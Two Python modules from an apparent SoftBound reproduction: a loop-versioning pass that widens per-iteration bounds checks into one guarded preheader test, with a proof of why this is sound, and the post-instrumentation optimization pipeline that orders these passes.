"""Monotonic check widening via guarded loop versioning.

The hot shape SoftBound instruments is the counted array walk::

    for (i = S; i < N; i += step)  ...a[i]...   ->   gep; sb_check; load

whose per-iteration ``sb_check`` re-proves membership of an *affine*
address ``P + c*i + d`` in an *invariant* ``[base, bound)``.  Because an
affine function is monotone in ``i``, the whole access range is in
bounds iff its two endpoint addresses are — one widened test per loop
entry can stand in for N per-iteration checks.

Replacing trapping checks with a widened preheader check naively would
move a trap from iteration *k* to the loop entry, changing observable
behaviour (output emitted before the trap, the faulting address).  This
pass therefore widens by **loop versioning**, which preserves trap
behaviour bit-for-bit:

* the preheader computes a *non-trapping* guard: for every widenable
  check, the first-iteration address and the last-iteration address
  must both lie in ``[base, bound - size]`` (plus no-overflow sanity
  terms, below);
* guard passes  -> branch to the **fast loop**: the original loop with
  the widened checks deleted.  The guard proved every deleted check
  would have passed, so removal is invisible except to the cost model;
* guard fails  -> branch to the **slow loop**: an instruction-for-
  instruction clone of the original loop with every check intact.  Any
  trap fires exactly where, and exactly as, it always did.

Recognition is deliberately conservative; a loop is versioned only when
**all** of the following hold (anything else is simply left alone):

* innermost natural loop, single latch distinct from the header.
  Calls *are* clonable — each clone shares the original site's
  pre-assigned return-address token via ``sb_site_key``
  (:meth:`repro.vm.machine.Machine._call_site_key`), because token
  values are observable program state (stack overreads can fold saved-
  RA bytes into output) and must not depend on whether a loop was
  versioned — with one exception: loops containing ``setjmp`` (or an
  indirect call, which could resolve to it) are never versioned, since
  a later ``longjmp`` could warp into the check-free fast path with an
  unvalidated IV;
* a single induction variable ``i``: its only in-loop definition is
  ``i += step`` (directly or through the mem2reg ``add``/``mov`` pair)
  in the latch, with a constant ``1 <= step <= 2**16``;
* the header exits on a signed ``i < N`` / ``i <= N`` comparison
  against a loop-invariant ``N`` (either operand order, optionally
  through the lowerer's ``cmp ne(x, 0)`` wrapper).  The header test
  bounds every in-body value of ``i`` by ``hi = N-1`` (or ``N``), and
  the guard's no-overflow term (emitted when ``step > 1`` or the bound
  is inclusive) certifies the stepped sequence cannot wrap the IV's
  width, so in-body values are exactly ``S <= i <= hi``;
* each widened check has an invariant constant size, invariant
  (IV-free) base/bound, and a pointer that the analyzer can express as
  a side-effect-free chain of ``mov``/``sext``/``add``/``sub``/``mul``/
  ``shl``/``gep`` over the IV, constants and loop-invariant values.
  An IV-dependent check must additionally sit in a block dominated by
  the exit test's in-loop successor: only then is every evaluation
  preceded by a passing ``i < N`` test *that same iteration*.  (A
  condition-expression access in the header evaluates once more on the
  exiting iteration, with the IV at or past the limit — outside the
  guard's endpoints.)
  The chain is re-emitted twice in the guard with the IV replaced by
  the ``S`` and ``hi`` endpoint values, re-using the *same opcodes and
  operand widths* so the guard computes exactly what the first and last
  iterations would.

Why endpoint tests suffice (wrap-around soundness): along the accepted
chain the address is affine in ``i`` with |coefficient| <= 2**20 and an
IV range certified (by the header test, the no-overflow term and, for
64-bit IVs, explicit |S|,|N| <= 2**40 window terms) to span <= 2**41,
so the true endpoint-to-endpoint span is < 2**62.  Modulo-2**64 address
arithmetic can therefore wrap at most once across the range; if it did
wrap strictly between the endpoints, one computed endpoint would lie
within 2**62 of 2**64 — impossible for an address that also passed the
``<= bound - size`` test with ``bound < 2**63``.  Hence both endpoints
in bounds implies every intermediate address in bounds.  Narrow
(pre-``sext``) constant arithmetic on the IV additionally gets window
terms proving the exact values at both endpoints fit the narrow width,
which rules out intermediate narrow wraps by the same monotonicity
argument.
"""

import copy

from ..ir import instructions as ins
from ..ir.cfg import CFG
from ..ir.irtypes import I64, PTR
from ..ir.loops import ensure_preheader, find_loops
from ..ir.values import Const, Register, SymbolRef
from ..policy.opcodes import traits_of
from ..vm.costs import OP_COSTS
from .licm import is_invariant, loop_def_counts

#: Amortization floor assumed for loops whose trip count is runtime-
#: dependent: the guard must pay for itself within this many iterations.
#: Runtime-bounded array walks typically scale with the data; the loops
#: that do not (short fixed scans) almost always have constant bounds
#: and are gated exactly by the static trip count instead.
_ASSUMED_MIN_TRIPS = 16

_MAX_COEFF = 1 << 20
_MAX_CONST = 1 << 32
_MAX_STEP = 1 << 16
_IV64_WINDOW = 1 << 40
_MAX_LOOP_INSTRS = 200
_MAX_CHAIN_DEPTH = 24

#: Pure opcodes an invariant-subtree clone may contain.
_CLONABLE_PURE = {"mov", "gep", "cast", "cmp"}
_CLONABLE_BINOPS = frozenset(["add", "sub", "mul", "and", "or", "xor",
                              "shl", "lshr", "ashr"])


class _Reject(Exception):
    pass


def _single_defs(func, loop):
    """uid -> its unique in-loop defining instruction (only uids with
    exactly one in-loop definition appear)."""
    defs = {}
    counts = loop_def_counts(func, loop)
    for label in loop.blocks:
        for instr in func.block_map[label].instructions:
            dst = getattr(instr, "dst", None)
            if dst is not None and counts.get(dst.uid) == 1:
                defs[dst.uid] = instr
    return defs


# -- induction-variable and trip-bound recognition ---------------------------


def _iv_candidates(func, loop, defs_count):
    """Recognize canonical counted-loop IVs.  Yields
    ``(iv_reg, step, latch_label, update_index, add_instr)`` tuples;
    the caller picks the one the header exit test is written against
    (a latch may also hold accumulator updates of the same shape)."""
    if len(loop.latches) != 1:
        return
    latch_label = loop.latches[0]
    if latch_label == loop.header:
        return
    latch = func.block_map[latch_label]
    for index, instr in enumerate(latch.instructions):
        iv = step = None
        if instr.opcode == "binop" and instr.op == "add" \
                and isinstance(instr.dst, Register):
            a, b = instr.a, instr.b
            # Direct form: i = add i, step.
            if isinstance(a, Register) and a.uid == instr.dst.uid \
                    and isinstance(b, Const) and isinstance(b.value, int):
                iv, step = instr.dst, b.value
            # mem2reg form: tmp = add i, step ; i = mov tmp.
            elif isinstance(a, Register) and isinstance(b, Const) \
                    and isinstance(b.value, int) \
                    and index + 1 < len(latch.instructions):
                nxt = latch.instructions[index + 1]
                if (nxt.opcode == "mov" and isinstance(nxt.src, Register)
                        and nxt.src.uid == instr.dst.uid
                        and isinstance(nxt.dst, Register)
                        and nxt.dst.uid == a.uid):
                    iv, step = nxt.dst, b.value
        if iv is None:
            continue
        if not (1 <= step <= _MAX_STEP):
            continue
        if iv.type is None or not iv.type.is_int:
            continue
        if defs_count.get(iv.uid, 0) != 1:
            continue  # other in-loop writes: not a simple IV
        # The add's destination (the pre-mov temporary, or the IV
        # itself) must not be written anywhere else in the loop.
        if defs_count.get(instr.dst.uid, 0) != 1:
            continue
        yield iv, step, latch_label, index, instr


def _resolve_header_cond(func, loop, cond):
    """Resolve the header terminator's condition register to its
    defining ``cmp``, looking through one ``cmp ne(x, 0)`` wrapper."""
    header = func.block_map[loop.header]
    by_uid = {}
    for instr in header.instructions:
        dst = getattr(instr, "dst", None)
        if dst is not None:
            by_uid[dst.uid] = instr
    if not isinstance(cond, Register):
        return None
    instr = by_uid.get(cond.uid)
    if instr is None or instr.opcode != "cmp":
        return None
    if instr.pred == "ne" and isinstance(instr.b, Const) \
            and instr.b.value == 0 and isinstance(instr.a, Register):
        inner = by_uid.get(instr.a.uid)
        if inner is not None and inner.opcode == "cmp":
            return inner
    return instr


def _trip_bound(func, loop, iv, loop_defs):
    """Recognize the header exit test.  Returns ``(limit_value,
    inclusive, continue_label)`` — in-body IV values are bounded above
    by ``limit - 1`` (exclusive) or ``limit`` (inclusive), and
    ``continue_label`` is the in-loop successor the test guards — or
    None."""
    header = func.block_map[loop.header]
    term = header.terminator
    if term is None or term.opcode != "cbr":
        return None
    cmp_instr = _resolve_header_cond(func, loop, term.cond)
    if cmp_instr is None:
        return None
    in_true = term.true_label in loop.blocks
    in_false = term.false_label in loop.blocks
    if in_true == in_false:
        return None  # both arms in (or out of) the loop: not the exit test
    continue_label = term.true_label if in_true else term.false_label
    a, b = cmp_instr.a, cmp_instr.b
    pred = cmp_instr.pred
    if not in_true:
        # Loop continues when the comparison is false: use the negation.
        pred = {"slt": "sge", "sle": "sgt", "sgt": "sle", "sge": "slt"}.get(pred)
        if pred is None:
            return None
    def is_iv(v):
        return isinstance(v, Register) and v.uid == iv.uid
    if pred == "slt" and is_iv(a) and is_invariant(b, loop_defs):
        return b, False, continue_label
    if pred == "sle" and is_iv(a) and is_invariant(b, loop_defs):
        return b, True, continue_label
    if pred == "sgt" and is_iv(b) and is_invariant(a, loop_defs):
        return a, False, continue_label
    if pred == "sge" and is_iv(b) and is_invariant(a, loop_defs):
        return a, True, continue_label
    return None


# -- affine pointer-chain analysis -------------------------------------------


class _ChainInfo:
    """What the analyzer learned about one check pointer."""

    def __init__(self):
        self.coeff_abs = 1       # |d addr / d iv| upper bound
        self.narrow_nodes = []   # trees of narrow IV arithmetic needing windows

    def merged(self, other):
        self.coeff_abs = max(self.coeff_abs, other.coeff_abs)
        self.narrow_nodes.extend(other.narrow_nodes)


def _analyze_value(value, ctx, depth=0):
    """Build an emission tree for ``value``.

    Tree nodes: ``("inv", Value)`` for IV-free values, ``("iv",)`` for
    the induction variable, and ``(op, ...)`` re-emission nodes.
    Raises :class:`_Reject` when the value is outside the grammar.
    Returns ``(tree, ivdep, narrow_width_or_None)``.
    """
    if depth > _MAX_CHAIN_DEPTH:
        raise _Reject("chain too deep")
    iv, loop_defs, single_defs, banned = (
        ctx["iv"], ctx["loop_defs"], ctx["single_defs"], ctx["banned"])
    if isinstance(value, (Const, SymbolRef)):
        return ("inv", value), False, None
    if not isinstance(value, Register):
        raise _Reject("unsupported operand kind")
    if value.uid == iv.uid:
        width = iv.type.size * 8
        return ("iv",), True, (width if width < 64 else None)
    if loop_defs.get(value.uid, 0) == 0:
        return ("inv", value), False, None
    if value.uid in banned:
        raise _Reject("reads post-increment IV value")
    d = single_defs.get(value.uid)
    if d is None:
        raise _Reject("multiply-defined in loop")
    if d.opcode == "mov":
        return _analyze_value(d.src, ctx, depth + 1)
    if d.opcode == "cast" and d.kind == "sext":
        sub, ivdep, narrow = _analyze_value(d.src, ctx, depth + 1)
        if not ivdep:
            return ("inv", value), False, None
        return ("sext", sub, d.dst.type), True, None
    if d.opcode == "gep":
        bt, biv, bn = _analyze_value(d.base, ctx, depth + 1)
        ot, oiv, on = _analyze_value(d.offset, ctx, depth + 1)
        if not biv and not oiv:
            return ("inv", value), False, None
        if biv and oiv:
            raise _Reject("both gep operands depend on the IV")
        if bn is not None or on is not None:
            raise _Reject("narrow value reaches address width without sext")
        return ("gep", bt, ot, d.dst.type), True, None
    if d.opcode == "binop" and d.op in ("add", "sub", "mul", "shl"):
        at, aiv, an = _analyze_value(d.a, ctx, depth + 1)
        bt, biv, bn = _analyze_value(d.b, ctx, depth + 1)
        if not aiv and not biv:
            return ("inv", value), False, None
        if aiv and biv:
            raise _Reject("both operands depend on the IV")
        ivt, invt = (at, bt) if aiv else (bt, at)
        narrow_in = an if aiv else bn
        width = d.dst.type.size * 8
        const_operand = (invt[1].value
                         if invt[0] == "inv" and isinstance(invt[1], Const)
                         and isinstance(invt[1].value, int) else None)
        if d.op in ("mul", "shl"):
            if const_operand is None:
                raise _Reject("IV scaled by a non-constant")
            if d.op == "shl":
                if not (0 <= const_operand < 32):
                    raise _Reject("oversized shift")
                factor = 1 << const_operand
            else:
                factor = abs(const_operand)
            if factor > _MAX_COEFF:
                raise _Reject("scaling coefficient too large")
            if width < 64:
                raise _Reject("narrow IV scaling")
            if narrow_in is not None:
                raise _Reject("narrow value scaled without sext")
            ctx["info"].coeff_abs *= max(factor, 1)
            if ctx["info"].coeff_abs > _MAX_COEFF:
                raise _Reject("accumulated coefficient too large")
            return ("bin", d.op, ivt, invt, aiv, d.dst.type), True, None
        # add / sub
        if width < 64:
            # Narrow IV arithmetic: constants only, windows required.
            if const_operand is None or abs(const_operand) > _MAX_CONST:
                raise _Reject("narrow IV arithmetic with non-constant")
            if d.op == "sub" and not aiv:
                raise _Reject("narrow const-minus-IV")
            if narrow_in is None or narrow_in != width:
                raise _Reject("mixed narrow widths")
            tree = ("bin", d.op, ivt, invt, aiv, d.dst.type)
            ctx["info"].narrow_nodes.append(tree)
            return tree, True, width
        if narrow_in is not None:
            raise _Reject("narrow value widened without sext")
        if const_operand is not None and abs(const_operand) > _MAX_CONST:
            raise _Reject("additive constant too large")
        return ("bin", d.op, ivt, invt, aiv, d.dst.type), True, None
    raise _Reject(f"unsupported op {d.opcode} on IV path")


def _analyze_iv_free(value, ctx):
    """Accept ``value`` only when IV-free; returns its tree."""
    tree, ivdep, _narrow = _analyze_value(value, ctx)
    if ivdep:
        raise _Reject("IV-dependent where invariance is required")
    return tree


# -- guard emission ----------------------------------------------------------


class _Emitter:
    def __init__(self, func, out):
        self.func = func
        self.out = out
        self.ctx = None
        self._inv_cache = {}

    def fresh(self, irtype, hint):
        return self.func.new_reg(irtype, hint)

    def emit(self, instr):
        self.out.append(instr)
        return instr

    def value_of(self, tree, endpoint):
        """Re-emit ``tree`` with the IV replaced by ``endpoint``;
        returns the Value holding the result."""
        kind = tree[0]
        if kind == "inv":
            return self.invariant_value(tree[1])
        if kind == "iv":
            return endpoint
        if kind == "sext":
            src = self.value_of(tree[1], endpoint)
            dst = self.fresh(tree[2], "wg")
            self.emit(ins.Cast(dst=dst, kind="sext", src=src))
            return dst
        if kind == "gep":
            base = self.value_of(tree[1], endpoint)
            off = self.value_of(tree[2], endpoint)
            dst = self.fresh(tree[3], "wg")
            self.emit(ins.Gep(dst=dst, base=base, offset=off))
            return dst
        if kind == "bin":
            _, op, ivt, invt, iv_is_a, irtype = tree
            ivv = self.value_of(ivt, endpoint)
            invv = self.value_of(invt, endpoint)
            a, b = (ivv, invv) if iv_is_a else (invv, ivv)
            dst = self.fresh(irtype, "wg")
            self.emit(ins.BinOp(dst=dst, op=op, a=a, b=b))
            return dst
        raise AssertionError(f"bad tree node {kind}")

    def invariant_value(self, value):
        """A Value usable in the preheader: loop-invariant operands are
        used directly; IV-free values computed inside the loop are
        re-emitted (pure ops only) on fresh registers."""
        if not isinstance(value, Register):
            return value
        if self.ctx["loop_defs"].get(value.uid, 0) == 0:
            return value
        cached = self._inv_cache.get(value.uid)
        if cached is not None:
            return cached
        d = self.ctx["single_defs"].get(value.uid)
        if d is None or value.uid in self.ctx["banned"]:
            raise _Reject("invariant chain not materializable")
        if d.opcode == "binop":
            if d.op not in _CLONABLE_BINOPS:
                raise _Reject("invariant chain contains a trapping op")
        elif d.opcode not in _CLONABLE_PURE:
            raise _Reject("invariant chain contains an impure op")
        clone = copy.copy(d)
        for attr in ("a", "b", "base", "offset", "src", "addr"):
            operand = getattr(clone, attr, None)
            if isinstance(operand, Register):
                setattr(clone, attr, self.invariant_value(operand))
        clone.dst = self.fresh(d.dst.type, "wg")
        self.emit(clone)
        self._inv_cache[value.uid] = clone.dst
        return clone.dst


# -- the pass ----------------------------------------------------------------


def _exact_i64(emitter, value):
    """Sign-extend ``value`` into a fresh i64 register (exact for every
    stored int of width <= 64)."""
    dst = emitter.fresh(I64, "wg")
    emitter.emit(ins.Cast(dst=dst, kind="sext", src=value))
    return dst


def _narrow_window_terms(emitter, tree, lo64, hi64):
    """Exactness terms for one narrow arithmetic node: the *exact* i64
    value of the node at both endpoints must fit the narrow width."""
    def exact(tree, endpoint64):
        kind = tree[0]
        if kind == "iv":
            return endpoint64
        if kind == "bin":
            _, op, ivt, invt, iv_is_a, irtype = tree
            sub = exact(ivt, endpoint64)
            const = invt[1]
            dst = emitter.fresh(I64, "wg")
            a, b = (sub, const) if iv_is_a else (const, sub)
            emitter.emit(ins.BinOp(dst=dst, op=op, a=a, b=b))
            return dst
        raise _Reject("narrow window over unsupported node")

    _, _op, _ivt, _invt, _iv_is_a, irtype = tree
    bits = irtype.size * 8
    tmin, tmax = -(1 << (bits - 1)), (1 << (bits - 1)) - 1
    terms = []
    for endpoint in (lo64, hi64):
        val = exact(tree, endpoint)
        terms.append(_cmp(emitter, "sge", val, Const(tmin, I64)))
        terms.append(_cmp(emitter, "sle", val, Const(tmax, I64)))
    return terms


def _cmp(emitter, pred, a, b):
    dst = emitter.fresh(I64, "wg")
    emitter.emit(ins.Cmp(dst=dst, pred=pred, a=a, b=b))
    return dst


def _and_all(emitter, terms):
    acc = terms[0]
    for term in terms[1:]:
        dst = emitter.fresh(I64, "wg")
        emitter.emit(ins.BinOp(dst=dst, op="and", a=acc, b=term))
        acc = dst
    return acc


def _widenable_checks(func, loop, ctx, latch_label, update_index,
                      cfg, continue_label):
    """Collect ``(block_label, check, ptr_tree)`` for every check the
    guard can cover."""
    out = []
    for label in sorted(loop.blocks):
        block = func.block_map[label]
        for index, instr in enumerate(block.instructions):
            # Widenability is the opcode's *declared* capability
            # (policy opcode-trait registry), not a name match; a
            # widenable opcode must carry the SbCheck operand shape
            # (ptr/base/bound/size) the guard builder reads.
            if not traits_of(instr.opcode).widenable \
                    or getattr(instr, "is_fnptr_check", False):
                continue
            if label == latch_label and index >= update_index:
                continue  # would read the post-increment IV value
            if not (isinstance(instr.size, Const)
                    and isinstance(instr.size.value, int)
                    and 0 <= instr.size.value <= _MAX_CONST):
                continue
            info_before = (ctx["info"].coeff_abs,
                           len(ctx["info"].narrow_nodes))
            try:
                ptr_tree, ivdep, narrow = _analyze_value(instr.ptr, ctx)
                if narrow is not None:
                    raise _Reject("narrow pointer value")
                if ivdep and not cfg.dominates(continue_label, label):
                    # An IV-dependent check is covered by the guard's
                    # [S, hi] endpoints only when the header test
                    # already validated the IV *this* iteration.  A
                    # check in the header itself (a condition-
                    # expression access) also evaluates on the final,
                    # exiting iteration with the IV at/past the limit —
                    # an address the guard never probed.
                    raise _Reject("not dominated by the exit test")
                base_tree = _analyze_iv_free(instr.base, ctx)
                bound_tree = _analyze_iv_free(instr.bound, ctx)
            except _Reject:
                ctx["info"].coeff_abs = info_before[0]
                del ctx["info"].narrow_nodes[info_before[1]:]
                continue
            out.append((label, instr, ptr_tree, base_tree, bound_tree))
    return out


def _clone_loop(func, loop):
    """Append an instruction-for-instruction clone of the loop's blocks
    (labels suffixed ``.slow``), with in-loop branch targets remapped.
    Returns the clone's header label."""
    from ..ir.module import BasicBlock

    mapping = {}
    for label in loop.blocks:
        new_label = f"{label}.slow"
        while new_label in func.block_map:
            new_label += "_"
        mapping[label] = new_label
    order = [b.label for b in func.blocks if b.label in loop.blocks]
    for label in order:
        source = func.block_map[label]
        clone = BasicBlock(mapping[label])
        clone._widen_slow = True  # never re-widened: its guard failed
        for instr in source.instructions:
            copied = copy.copy(instr)
            if copied.opcode == "call":
                # Share the original's return-address token: the two
                # copies are the same source-level call site, and token
                # values are observable program state (see
                # Machine._call_site_key).
                copied.sb_site_key = getattr(
                    instr, "sb_site_key", None) or (func.name, id(instr))
            clone.append(copied)
        term = clone.instructions[-1]
        if term.opcode == "br":
            term.label = mapping.get(term.label, term.label)
        elif term.opcode == "cbr":
            term.true_label = mapping.get(term.true_label, term.true_label)
            term.false_label = mapping.get(term.false_label, term.false_label)
        func.blocks.append(clone)
        func.block_map[clone.label] = clone
    return mapping[loop.header]


def _static_trip_count(func, loop, iv, limit, step, inclusive):
    """Exact trip count when both ends are static: the limit is a
    constant and the IV's only definition outside the loop is a
    constant move (the mem2reg init).  None when runtime-dependent."""
    if not (isinstance(limit, Const) and isinstance(limit.value, int)):
        return None
    init = None
    for block in func.blocks:
        if block.label in loop.blocks:
            continue
        for instr in block.instructions:
            dst = getattr(instr, "dst", None)
            if dst is not None and dst.uid == iv.uid:
                if init is not None:
                    return None  # several reaching inits: not static
                init = instr
    if init is None or init.opcode != "mov" \
            or not (isinstance(init.src, Const) and isinstance(init.src.value, int)):
        return None
    start = init.src.value
    last = limit.value if inclusive else limit.value - 1
    if last < start:
        return 0
    return (last - start) // step + 1


def _guard_cost(guard):
    """Cost-model units one evaluation of the guard charges (plus the
    terminating cbr)."""
    total = OP_COSTS["cbr"]
    for instr in guard:
        if instr.opcode == "binop":
            total += OP_COSTS["binop." + instr.op]
        else:
            total += OP_COSTS.get(instr.opcode, 1)
    return total


def _profitable(func, loop, guard, iv, limit, step, inclusive, checks,
                n_terms):
    """Whether widening pays for itself in cost-model units.  The guard
    runs once per loop entry; each widened check saves its per-iteration
    cost.  With a static trip count the comparison is exact; with a
    runtime bound the loop must plausibly amortize the guard within
    ``_ASSUMED_MIN_TRIPS`` iterations (short-trip inner loops entered
    many times otherwise become net losses, as the ``go`` board scans
    demonstrate)."""
    per_iter = OP_COSTS["sb.check"] * len(checks)
    # The and-reduction is emitted after this gate: n_terms - 1 ands.
    cost = _guard_cost(guard) + OP_COSTS["binop.and"] * max(n_terms - 1, 0)
    trips = _static_trip_count(func, loop, iv, limit, step, inclusive)
    if trips is not None:
        return trips * per_iter > cost + 4
    return per_iter * _ASSUMED_MIN_TRIPS > cost + 4


def _widen_loop(func, cfg, loop):
    """Attempt to version one loop.  Returns the number of checks
    widened (0 when the loop is not eligible)."""
    if getattr(func.block_map[loop.header], "_widen_slow", False):
        return 0  # the slow clone itself: its guard already failed
    instr_count = sum(len(func.block_map[l].instructions)
                      for l in loop.blocks)
    if instr_count > _MAX_LOOP_INSTRS:
        return 0
    for instr in loop.instructions(func):
        # Calls are clonable (their return-address tokens are shared
        # with the original site), with one exception: a setjmp inside
        # the loop could later be longjmp'd to with an arbitrary IV
        # value, warping into the check-free fast path unvalidated.
        # Indirect calls could resolve to setjmp, so they are out too.
        if instr.opcode == "call" and (instr.callee is None
                                       or instr.callee == "setjmp"):
            return 0
    loop_defs = loop_def_counts(func, loop)
    iv = step = latch_label = update_index = add_instr = None
    bound_found = None
    for cand in _iv_candidates(func, loop, loop_defs):
        bound_found = _trip_bound(func, loop, cand[0], loop_defs)
        if bound_found is not None:
            iv, step, latch_label, update_index, add_instr = cand
            break
    if bound_found is None:
        return 0
    limit, inclusive, continue_label = bound_found
    single_defs = _single_defs(func, loop)
    # Values carrying the post-increment IV (the latch add result).
    banned = {add_instr.dst.uid}
    info = _ChainInfo()
    ctx = {"iv": iv, "loop_defs": loop_defs, "single_defs": single_defs,
           "banned": banned, "info": info}
    checks = _widenable_checks(func, loop, ctx, latch_label, update_index,
                               cfg, continue_label)
    if not checks:
        return 0

    guard = []
    emitter = _Emitter(func, guard)
    emitter.ctx = ctx
    try:
        bits = iv.type.size * 8
        typemax = (1 << (bits - 1)) - 1
        terms = []
        # hi = limit - 1 (exclusive) or limit itself (inclusive),
        # exact in i64.
        limit64 = _exact_i64(emitter, emitter.invariant_value(limit))
        if inclusive:
            hi = limit64
        else:
            hi = emitter.fresh(I64, "wg.hi")
            emitter.emit(ins.BinOp(dst=hi, op="sub", a=limit64, b=Const(1, I64)))
        lo64 = _exact_i64(emitter, iv)
        # No-overflow certificate: the first stepped value >= the limit
        # must be representable, else the IV could wrap back under N.
        if inclusive:
            terms.append(_cmp(emitter, "sle", limit64,
                              Const(typemax - step, I64)))
        elif step > 1:
            terms.append(_cmp(emitter, "sle", limit64,
                              Const(typemax - step + 1, I64)))
        if bits == 64:
            # Window terms keep the IV span small enough for the
            # wrap-around argument (see module docstring).
            for v in (lo64, hi):
                terms.append(_cmp(emitter, "sge", v, Const(-_IV64_WINDOW, I64)))
                terms.append(_cmp(emitter, "sle", v, Const(_IV64_WINDOW, I64)))
        for tree in info.narrow_nodes:
            terms.extend(_narrow_window_terms(emitter, tree, lo64, hi))
        for _label, check, ptr_tree, base_tree, bound_tree in checks:
            base_v = emitter.value_of(base_tree, None)
            bound_v = emitter.value_of(bound_tree, None)
            size = check.size.value
            bms = emitter.fresh(PTR, "wg.bms")
            emitter.emit(ins.BinOp(dst=bms, op="sub", a=bound_v,
                                   b=Const(size, I64)))
            terms.append(_cmp(emitter, "uge", bound_v, Const(size, I64)))
            for endpoint in (iv, hi):
                ptr_v = emitter.value_of(ptr_tree, endpoint)
                terms.append(_cmp(emitter, "uge", ptr_v, base_v))
                terms.append(_cmp(emitter, "ule", ptr_v, bms))
    except _Reject:
        return 0  # no structural change was made
    if not _profitable(func, loop, guard, iv, limit, step, inclusive, checks,
                       len(terms)):
        return 0
    ok = _and_all(emitter, terms)

    slow_header = _clone_loop(func, loop)
    pre = ensure_preheader(func, cfg, loop)
    # Install the guard: preheader now ends in cbr ok -> fast / slow.
    pre.instructions[-1:] = guard + [
        ins.CBr(cond=ok, true_label=loop.header, false_label=slow_header)]
    pre.invalidate_compiled()
    # Strip the widened checks from the fast path.
    widened = 0
    for label, check, _pt, _bt, _et in checks:
        block = func.block_map[label]
        block.instructions.remove(check)
        block.invalidate_compiled()
        widened += 1
    func._frame_layout = None
    return widened


def run(func, module=None):
    """Version every eligible innermost loop.  Returns
    ``(loops_widened, checks_widened)``."""
    if not func.blocks:
        return 0, 0
    loops_widened = 0
    checks_widened = 0
    # Each versioning changes the CFG; recompute and retry until no
    # eligible loop remains.  Already-versioned loops are skipped
    # because their fast path no longer contains widenable checks.
    for _ in range(64):
        cfg = CFG(func)
        candidates = [l for l in find_loops(cfg) if l.is_innermost]
        progressed = False
        for loop in candidates:
            widened = _widen_loop(func, cfg, loop)
            if widened:
                loops_widened += 1
                checks_widened += widened
                progressed = True
                break  # structure changed: recompute CFG and loops
        if not progressed:
            break
    return loops_widened, checks_widened
