"""Optimization pipeline.

Mirrors the paper's compilation flow (Section 6.1): the full optimizer
runs *before* SoftBound (so instrumentation counts reflect optimized
code) and again *after* it (so redundant checks introduced by the
mechanical transformation are cleaned up).

The post-instrumentation pipeline is loop-aware: after the dominance
scoped elimination of static duplicates (``checkelim``), ``licm``
hoists loop-invariant metadata loads and header checks into loop
preheaders, and ``checkwiden`` versions counted loops behind a widened
preheader guard so the hot path runs check-free (see each pass's module
docstring for the safety argument).  Pass order matters: copy
propagation and CSE canonicalize the operand webs the check passes key
on; constant folding and DCE run last to clean up what the loop passes
exposed.

Which passes apply is the checker policy's call: the post pipeline
queries the policy's ``dedupable``/``hoistable``/``widenable``
capability flags (:mod:`repro.policy`) instead of matching variant
names.  The built-in declarations preserve the historical behaviour —
loop passes only for the ``softbound`` variant proper; the baseline
variants keep the paper's original cleanup pipeline, and
inline-metadata baselines (``fatptr``) must not hoist table reads
across program stores at all.
"""

from dataclasses import dataclass

from dataclasses import fields as _dataclass_fields

from ..ir.module import invalidate_compiled
from ..ir.verifier import verify_module
from ..obs.metrics import default_registry
from . import checkelim, checkwiden, constfold, copyprop, cse, dce, licm, mem2reg


@dataclass
class PassStats:
    promoted_allocas: int = 0
    folded: int = 0
    removed_dead: int = 0
    removed_checks: int = 0
    removed_temporal_checks: int = 0
    propagated_copies: int = 0
    cse_replaced: int = 0
    # Loop-aware check optimizer (post-instrumentation only):
    deduped_meta_loads: int = 0
    hoisted_meta_loads: int = 0
    hoisted_checks: int = 0
    widened_loops: int = 0
    widened_checks: int = 0
    # Solver-backed static elimination (-O2 only):
    proved_checks: int = 0
    proved_temporal_checks: int = 0
    prove_obligations: int = 0


def _publish(stats, phase):
    """Fold one pipeline run's counters into the shared obs registry
    (series ``repro_opt_<field>_total{phase=...}``) — the profiler's
    elimination-attribution numbers aggregate here across compiles."""
    registry = default_registry()
    for f in _dataclass_fields(stats):
        value = getattr(stats, f.name)
        if value:
            registry.counter("repro_opt_%s_total" % f.name,
                             {"phase": phase}).inc(value)


def _capabilities(config):
    """``(dedupable, hoistable, widenable)`` for this build — the
    checker policy's optimizer capability flags (queried through the
    policy registry instead of pattern-matching variant names), gated
    by the config's own ``loop_optimize`` ablation switch."""
    if config is None:
        # Uninstrumented builds carry no checks; the loop passes are
        # no-ops but harmless (historical behaviour: they run).
        return True, True, True
    from ..policy import policy_for_config

    policy = policy_for_config(config)
    loop_ok = getattr(config, "loop_optimize", True)
    return (policy.dedupable,
            policy.hoistable and loop_ok,
            policy.widenable and loop_ok)


def optimize_module(module, verify=True):
    """The pre-instrumentation pipeline:
    constfold → mem2reg → copyprop → cse → dce."""
    stats = PassStats()
    for func in module.functions.values():
        stats.folded += constfold.run(func, module)
        stats.promoted_allocas += mem2reg.run(func, module)
        stats.propagated_copies += copyprop.run(func, module)
        stats.cse_replaced += cse.run(func, module)
        stats.removed_dead += dce.run(func, module)
    invalidate_compiled(module)
    if verify:
        verify_module(module)
    _publish(stats, "initial")
    return stats


def optimize_after_instrumentation(module, verify=True, config=None,
                                   prove=None):
    """The post-SoftBound cleanup pipeline (the paper re-runs the full
    LLVM suite here, Section 6.1):
    copyprop → cse → checkelim → [prove] → licm → checkwiden →
    constfold → dce.

    ``prove`` is a :class:`repro.prove.ProveConfig` (or None to skip):
    at ``-O2`` the solver-backed pass deletes checks it can prove
    non-trapping, *before* LICM/widening so fully-proven loops need no
    hoisting or versioning, and before DCE so the orphaned metadata
    movs get swept.  Each deletion's
    :class:`~repro.prove.certificate.Certificate` is collected on
    ``module.prove_certificates`` (not in the stats — the stats fields
    feed metric counters)."""
    stats = PassStats()
    dedupable, hoistable, widenable = _capabilities(config)
    certificates = []
    for func in module.functions.values():
        stats.propagated_copies += copyprop.run(func, module)
        stats.cse_replaced += cse.run(func, module)
        if dedupable:
            removed, deduped, removed_temporal = checkelim.run(func, module)
            stats.removed_checks += removed
            stats.deduped_meta_loads += deduped
            stats.removed_temporal_checks += removed_temporal
        if prove is not None:
            from ..prove import passes as prove_passes

            proved = prove_passes.run(func, module, prove)
            stats.proved_checks += proved.proved_checks
            stats.proved_temporal_checks += proved.proved_temporal_checks
            stats.prove_obligations += proved.obligations
            certificates.extend(proved.certificates)
        if hoistable:
            hoisted_meta, hoisted_checks = licm.run(func, module)
            stats.hoisted_meta_loads += hoisted_meta
            stats.hoisted_checks += hoisted_checks
        if widenable:
            widened_loops, widened_checks = checkwiden.run(func, module)
            stats.widened_loops += widened_loops
            stats.widened_checks += widened_checks
        stats.folded += constfold.run(func, module)
        stats.removed_dead += dce.run(func, module)
    if prove is not None:
        module.prove_certificates = tuple(certificates)
    invalidate_compiled(module)
    if verify:
        verify_module(module)
    _publish(stats, "post")
    return stats
